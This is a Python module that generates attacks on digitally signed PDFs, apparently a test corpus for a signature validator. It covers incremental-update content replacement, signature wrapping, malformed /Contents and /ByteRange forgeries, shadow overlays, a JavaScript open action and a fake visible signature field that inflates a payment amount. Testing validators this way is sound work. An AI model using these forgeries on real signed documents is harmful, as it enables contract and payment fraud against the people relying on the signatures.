"""A generator of attacks on signed PDFs, written from the classes, not from any sample.

Each attack takes the bytes of a signed PDF and answers tampered bytes. Classes: incremental
saving, signature wrapping, universal forgery, shadow (hide, replace), certification, tail.
Source: field guide section 4.2; ISO 32000-2 clauses 7.5.6, 12.8.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

Attack = Callable[[bytes], bytes]

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*0 (\d+) (\d+) (\d+)[ \d]*\]")
_CONTENTS = re.compile(rb"/Contents\s*(<[0-9A-Fa-f]+>)")
_START = re.compile(rb"startxref\s+(\d+)\s+%%EOF")
EVIL_TEXT = b"BT /F1 18 Tf 72 720 Td (So tien: 9 999 999 999 dong) Tj ET"
_FORGED_TABLE_BYTES = 4000
PAGE, CONTENT, FONT, PAGES, CATALOG = 4, 5, 3, 2, 1


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(body), extra, body)


def last_start(pdf: bytes) -> int:
    return int(_START.findall(pdf)[-1])


def newest(pdf: bytes, number: int) -> bytes:
    """The body of the last definition of object *number*."""
    bodies = re.findall(rb"(?:^|\n|\r)%d 0 obj\s*(.*?)\s*endobj" % number, pdf, re.DOTALL)
    return bodies[-1]


def size_of(pdf: bytes) -> int:
    return max(int(number) for number in re.findall(rb"/Size (\d+)", pdf))


def update(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    root: int = CATALOG,
    freed: tuple[int, ...] = (),
    moved: Mapping[int, int] | None = None,
    table: bool = True,
    trailer: bool = True,
    start: bool = True,
    end: bool = True,
    trailer_extra: bytes = b"",
) -> bytes:
    """Append an incremental update; parts may be left out."""
    out = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    offsets: dict[int, tuple[int, bytes]] = dict.fromkeys(freed, (0, b"f"))
    for number, body in objects.items():
        offsets[number] = (len(out), b"n")
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for number, place in (moved or {}).items():
        offsets[number] = (place, b"n")
    position = len(out)
    if table:
        out += b"xref\n"
        for number, (offset, kind) in sorted(offsets.items()):
            out += b"%d 1\n%010d 00000 %s \n" % (number, offset, kind)
    if trailer:
        size = max([size_of(pdf), *(number + 1 for number in offsets)])
        words = (size, root, last_start(pdf), trailer_extra)
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s>>\n" % words
    if start:
        out += b"startxref\n%d\n" % position
    return out + (b"%%EOF\n" if end else b"")


def evil_content(pdf: bytes, **parts: object) -> bytes:
    return update(pdf, {CONTENT: stream(EVIL_TEXT)}, **parts)  # type: ignore[arg-type]


def with_entry(body: bytes, entry: bytes) -> bytes:
    """A dictionary's body with *entry* written before its end."""
    return body[: body.rindex(b">>")] + entry + b">>"


# -- incremental saving ------------------------------------------------------------------


def content_in_xref_stream(pdf: bytes) -> bytes:
    out = pdf + b"\n"
    first = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(EVIL_TEXT))
    number, place = size_of(pdf), len(out)
    rows = b"".join(b"\x01" + offset.to_bytes(4, "big") + b"\x00" for offset in (first, place))
    entries = b"/Type /XRef /W [1 4 1] /Index [%d 1 %d 1] /Size %d /Root 1 0 R /Prev %d " % (
        CONTENT,
        number,
        number + 1,
        last_start(pdf),
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (number, stream(rows, entries))
    return out + b"startxref\n%d\n%%%%EOF\n" % place


def content_in_object_stream(pdf: bytes) -> bytes:
    """The page itself, packed, now pointing to new content."""
    number = size_of(pdf)
    page = newest(pdf, PAGE).replace(b"%d 0 R" % CONTENT, b"%d 0 R" % (number + 2))
    out = pdf + b"\n"
    head = b"%d 0 " % PAGE
    packed, content = len(out), stream(EVIL_TEXT)
    extra = b"/Type /ObjStm /N 1 /First %d " % len(head)
    out += b"%d 0 obj\n%s\nendobj\n" % (number, stream(head + page, extra))
    text = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (number + 2, content)
    place = len(out)
    rows = [(2, number, 0), (1, packed, 0), (1, place, 0), (1, text, 0)]
    wire = b"".join(
        bytes([kind]) + where.to_bytes(4, "big") + bytes([extra]) for kind, where, extra in rows
    )
    entries = b"/Type /XRef /W [1 4 1] /Index [%d 1 %d 3] /Size %d /Root 1 0 R /Prev %d " % (
        PAGE,
        number,
        number + 3,
        last_start(pdf),
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (number + 1, stream(wire, entries))
    return out + b"startxref\n%d\n%%%%EOF\n" % place


def page_added(pdf: bytes) -> bytes:
    number = size_of(pdf)
    page = newest(pdf, PAGE).replace(b"%d 0 R" % CONTENT, b"%d 0 R" % (number + 1))
    pages = b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (PAGE, number)
    return update(pdf, {PAGES: pages, number: page, number + 1: stream(EVIL_TEXT)})


def catalog_replaced(pdf: bytes) -> bytes:
    number = size_of(pdf)
    catalog = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (number + 1), newest(pdf, CATALOG))
    page = newest(pdf, PAGE).replace(b"%d 0 R" % CONTENT, b"%d 0 R" % (number + 3))
    return update(
        pdf,
        {
            number: catalog,
            number + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 2),
            number + 2: page,
            number + 3: stream(EVIL_TEXT),
        },
        root=number,
    )


def signature_hidden(pdf: bytes) -> bytes:
    """A catalog without a form: the signature is no longer reachable."""
    catalog = re.sub(rb"/AcroForm \d+ 0 R", b"", newest(pdf, CATALOG))
    return update(pdf, {CATALOG: catalog, CONTENT: stream(EVIL_TEXT)})


def malformed_table(pdf: bytes) -> bytes:
    tampered = evil_content(pdf)
    at = tampered.rindex(b"xref\n5 1")
    return tampered[:at] + tampered[at:].replace(b" 00000 n \n", b" 00000 n\n", 1)


def stale_start(pdf: bytes) -> bytes:
    tampered = evil_content(pdf)
    start = last_start(tampered)
    return tampered.replace(b"startxref\n%d\n" % start, b"startxref\n%d\n" % last_start(pdf))


def second_table_before_no_end(pdf: bytes) -> bytes:
    """Appended bytes hold a cross-reference and trailer, but no end mark: lenient readers
    look back for the old one, viewers rebuild."""
    return evil_content(pdf, end=False)


def table_in_comment(pdf: bytes) -> bytes:
    return pdf + b"%% harmless\n%%5 0 obj\n" + evil_content(pdf)[len(pdf) :].replace(b"\n", b"\r")


def signature_copied(pdf: bytes) -> bytes:
    """A further field that shows the same signature dictionary's bytes again."""
    number = size_of(pdf)
    found = _signature_object(pdf)
    return evil_content(update(pdf, {number: newest(pdf, found)}))


# -- shadow, certification ---------------------------------------------------------------


def font_replaced(pdf: bytes) -> bytes:
    return update(pdf, {FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"})


def overlay_annotation(pdf: bytes) -> bytes:
    number = size_of(pdf)
    page = re.sub(rb"/Annots\s*(\[[^]]*\]|\d+ 0 R)", b"", newest(pdf, PAGE))
    note = b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] /Contents (9 999) >>"
    return update(pdf, {PAGE: with_entry(page, b" /Annots [%d 0 R] " % number), number: note})


def content_deleted(pdf: bytes) -> bytes:
    return update(pdf, {}, freed=(CONTENT,))


def content_as_validation_data(pdf: bytes) -> bytes:
    """The redefined content stream is also listed as a certificate in /DSS."""
    number = size_of(pdf)
    catalog = re.sub(rb"/DSS \d+ 0 R", b"", newest(pdf, CATALOG))
    return update(
        pdf,
        {
            CATALOG: with_entry(catalog, b" /DSS %d 0 R " % number),
            number: b"<< /Type /DSS /Certs [%d 0 R] >>" % CONTENT,
            CONTENT: stream(EVIL_TEXT),
        },
    )


def open_action(pdf: bytes) -> bytes:
    action = b" /OpenAction << /S /JavaScript /JS (app.alert) >> "
    return update(pdf, {CATALOG: with_entry(newest(pdf, CATALOG), action)})


def _form_number(pdf: bytes) -> int:
    return int(re.findall(rb"/AcroForm (\d+) 0 R", pdf)[-1])


def _signature_object(pdf: bytes) -> int:
    return int(re.findall(rb"(\d+) 0 obj[^>]{0,200}?/ByteRange|/V (\d+) 0 R", pdf)[0][1] or 0)


def text_field_added(pdf: bytes) -> bytes:
    number, form = size_of(pdf), _form_number(pdf)
    fields = re.sub(rb"\]", b" %d 0 R]" % number, newest(pdf, form), count=1)
    field = b"<< /FT /Tx /T (so_tien) /V (9 999) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] >>"
    return update(pdf, {form: fields, number: field})


def visible_signature_field_added(pdf: bytes) -> bytes:
    """Certification attack: an unsigned, visible signature field drawn over the text."""
    number, form = size_of(pdf), _form_number(pdf)
    fields = re.sub(rb"\]", b" %d 0 R]" % number, newest(pdf, form), count=1)
    field = (
        b"<< /FT /Sig /T (Evil) /Type /Annot /Subtype /Widget /Rect [0 0 595 842] /F 4 "
        b"/P 4 0 R /AP << /N %d 0 R >> >>" % (number + 1)
    )
    look = stream(EVIL_TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] ")
    return update(pdf, {form: fields, number: field, number + 1: look})


def signature_dictionary_respelled(pdf: bytes) -> bytes:
    """The signature dictionary is redefined with another reason."""
    number = _signature_object(pdf)
    return update(pdf, {number: with_entry(newest(pdf, number), b" /Reason (Dong y tang no) ")})


def reappearances_demanded(pdf: bytes) -> bytes:
    form = _form_number(pdf)
    return update(pdf, {form: with_entry(newest(pdf, form), b" /NeedAppearances true ")})


def hidden_copy_revived(pdf: bytes) -> bytes:
    """The update only moves an entry to bytes inside the signed revision."""
    return update(pdf, {}, moved={CONTENT: pdf.index(b"4 0 obj")})


def title_replaced(pdf: bytes) -> bytes:
    number = size_of(pdf)
    return update(
        pdf, {number: b"<< /Title (Hop dong khac) >>"}, trailer_extra=b"/Info %d 0 R " % number
    )


def stray_object(pdf: bytes) -> bytes:
    return update(pdf, {size_of(pdf): stream(EVIL_TEXT)})


# -- signature wrapping ------------------------------------------------------------------


def signed_bytes_moved(pdf: bytes) -> bytes:
    """The second signed stretch moves to the end; a forged cross-reference stands where the
    old one did, inside the enlarged gap, and leads to a forged signature dictionary."""
    first, second, length = (int(number) for number in _BYTE_RANGE.findall(pdf)[0])
    token, tail = pdf[first:second], pdf[second : second + length]
    table_at, number = last_start(pdf[: second + length]), _signature_object(pdf)
    assert table_at >= second
    forged = b"%d 0 obj\n%s\nendobj\n" % (CONTENT, stream(EVIL_TEXT))
    moved_to = table_at + _FORGED_TABLE_BYTES + len(forged) + len(newest(pdf, number)) + 99
    moved = b"/ByteRange [0 %d %d %d]" % (first, moved_to, length)
    body = _BYTE_RANGE.sub(moved, newest(pdf, number))
    forged += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    kept = re.findall(rb"\d+ 0 obj\s.*?endobj\n?", tail, re.DOTALL)
    forged += b"".join(one for one in kept if not one.startswith(b"%d 0 obj" % number))
    moved_to = max(moved_to, table_at + _FORGED_TABLE_BYTES + len(forged))
    head = pdf[:first] + token + b" " * (table_at - second)
    whole = head + b" " * _FORGED_TABLE_BYTES + forged
    whole = whole.ljust(moved_to) + tail
    offsets = {int(m[1]): m.start() for m in re.finditer(rb"(?<!\d)(\d+) 0 obj", whole[:moved_to])}
    rows = b"".join(
        b"%d 1\n%010d 00000 n \n" % (one, offset) for one, offset in sorted(offsets.items())
    )
    words = (max(offsets) + 1, CATALOG)
    table = b"xref\n" + rows + b"trailer\n<< /Size %d /Root %d 0 R >>\n" % words
    assert len(table) <= _FORGED_TABLE_BYTES
    return (
        whole[:table_at]
        + table.ljust(_FORGED_TABLE_BYTES)
        + whole[table_at + _FORGED_TABLE_BYTES :]
    )


def contents_padded_wider(pdf: bytes) -> bytes:
    """Foreign objects between the signature value and the second stretch."""
    second = int(_BYTE_RANGE.findall(pdf)[0][1])
    evil = b" %d 0 obj %s endobj " % (CONTENT, stream(EVIL_TEXT))
    return pdf[:second] + evil + pdf[second:]


# -- universal forgery -------------------------------------------------------------------


def _with_contents(replacement: bytes) -> Attack:
    def attack(pdf: bytes) -> bytes:
        value = _CONTENTS.search(pdf)
        assert value is not None
        start, end = value.span(1)
        return pdf[:start] + replacement.ljust(end - start) + pdf[end:]

    return attack


def _with_key(old: bytes, new: bytes) -> Attack:
    return lambda pdf: pdf.replace(old, new, 1)


def _with_byte_range(value: bytes) -> Attack:
    def attack(pdf: bytes) -> bytes:
        found = _BYTE_RANGE.search(pdf)
        assert found is not None
        written = b"/ByteRange " + value
        return pdf[: found.start()] + written.ljust(len(found[0])) + pdf[found.end() :]

    return attack


def padding_filled(pdf: bytes) -> bytes:
    value = _CONTENTS.search(pdf)
    assert value is not None
    assert pdf[value.end(1) - 9 : value.end(1) - 1] == b"00000000"
    return pdf[: value.end(1) - 9] + b"DEADBEEF" + pdf[value.end(1) - 1 :]


def contents_with_space(pdf: bytes) -> bytes:
    value = _CONTENTS.search(pdf)
    assert value is not None
    return pdf[: value.end(1) - 3] + b"  >" + pdf[value.end(1) :]


# -- tail and bytes ----------------------------------------------------------------------


def byte_changed(pdf: bytes) -> bytes:
    return pdf.replace(b"1 000 000 dong", b"9 000 000 dong", 1)


def truncated(pdf: bytes) -> bytes:
    return pdf[: len(pdf) * 2 // 3]


INCREMENTAL: dict[str, Attack] = {
    "content replaced": evil_content,
    "content replaced by a cross-reference stream": content_in_xref_stream,
    "page replaced from an object stream": content_in_object_stream,
    "page added": page_added,
    "catalog replaced": catalog_replaced,
    "signature hidden": signature_hidden,
    "signature copied": signature_copied,
    "no cross-reference table": lambda pdf: evil_content(pdf, table=False),
    "no trailer": lambda pdf: evil_content(pdf, trailer=False),
    "no startxref": lambda pdf: evil_content(pdf, start=False),
    "no end mark": second_table_before_no_end,
    "object alone": lambda pdf: evil_content(
        pdf, table=False, trailer=False, start=False, end=False
    ),
    "object and end mark": lambda pdf: evil_content(pdf, table=False, trailer=False, start=False),
    "malformed table": malformed_table,
    "startxref of the old table": stale_start,
    "table in a comment": table_in_comment,
}
SHADOW: dict[str, Attack] = {
    "font replaced": font_replaced,
    "annotation laid over": overlay_annotation,
    "content deleted": content_deleted,
    "content passed off as validation data": content_as_validation_data,
    "open action": open_action,
    "text field added": text_field_added,
    "visible signature field added": visible_signature_field_added,
    "signature dictionary redefined": signature_dictionary_respelled,
    "appearances demanded anew": reappearances_demanded,
    "hidden copy revived": hidden_copy_revived,
    "title replaced": title_replaced,
    "stray object": stray_object,
}
WRAPPING: dict[str, Attack] = {
    "signed bytes moved": signed_bytes_moved,
    "gap widened": contents_padded_wider,
    "padding filled": padding_filled,
    "space in contents": contents_with_space,
}
FORGERY: dict[str, Attack] = {
    "contents empty": _with_contents(b"<>"),
    "contents one zero": _with_contents(b"<00>"),
    "contents null": _with_contents(b"null"),
    "contents without value": _with_contents(b""),
    "contents a reference": _with_contents(b"5 0 R"),
    "contents a string": _with_contents(b"(30820100)"),
    "contents a number": _with_contents(b"-1"),
    "contents all zero": lambda pdf: _CONTENTS.sub(
        lambda value: value[0][: -len(value[1])] + b"<" + b"0" * (len(value[1]) - 2) + b">", pdf
    ),
    "contents key missing": _with_key(b"/Contents <", b"/Contentz <"),
    "contents not ASN.1": _with_contents(b"<FFFFFFFFFFFFFFFFFFFF>"),
    "byte range key missing": _with_key(b"/ByteRange ", b"/ByteRanje "),
    "byte range null": _with_byte_range(b"null"),
    "byte range empty": _with_byte_range(b"[]"),
    "byte range negative": _with_byte_range(b"[0 -1 9 9]"),
    "byte range huge": _with_byte_range(b"[0 1 2 99999999999]"),
    "byte range of three": _with_byte_range(b"[0 1 2]"),
    "byte range of five": _with_byte_range(b"[0 1 2 3 4]"),
    "byte range all zero": _with_byte_range(b"[0 0 0 0]"),
    "byte range not from the start": _with_byte_range(b"[9 1 20 30]"),
    "byte range crossing itself": _with_byte_range(b"[0 900 100 900]"),
    "byte range of reals": _with_byte_range(b"[0.0 1.0 2.0 3.0]"),
    "byte range a reference": _with_byte_range(b"5 0 R"),
}
TAIL: dict[str, Attack] = {
    "line ends": lambda pdf: pdf + b"\n\n",
    "space": lambda pdf: pdf + b" ",
    "zero byte": lambda pdf: pdf + b"\x00",
    "words": lambda pdf: pdf + b"\nhello",
    "comment": lambda pdf: pdf + b"\n% hello\n",
    "second end mark": lambda pdf: pdf + b"\n%%EOF\n",
    "second startxref": lambda pdf: pdf + b"\nstartxref\n%d\n%%%%EOF\n" % last_start(pdf),
    "bytes before the header": lambda pdf: b"\n" + pdf,
    "byte changed": byte_changed,
    "truncated": truncated,
}
ATTACKS: dict[str, Attack] = {**INCREMENTAL, **SHADOW, **WRAPPING, **FORGERY, **TAIL}
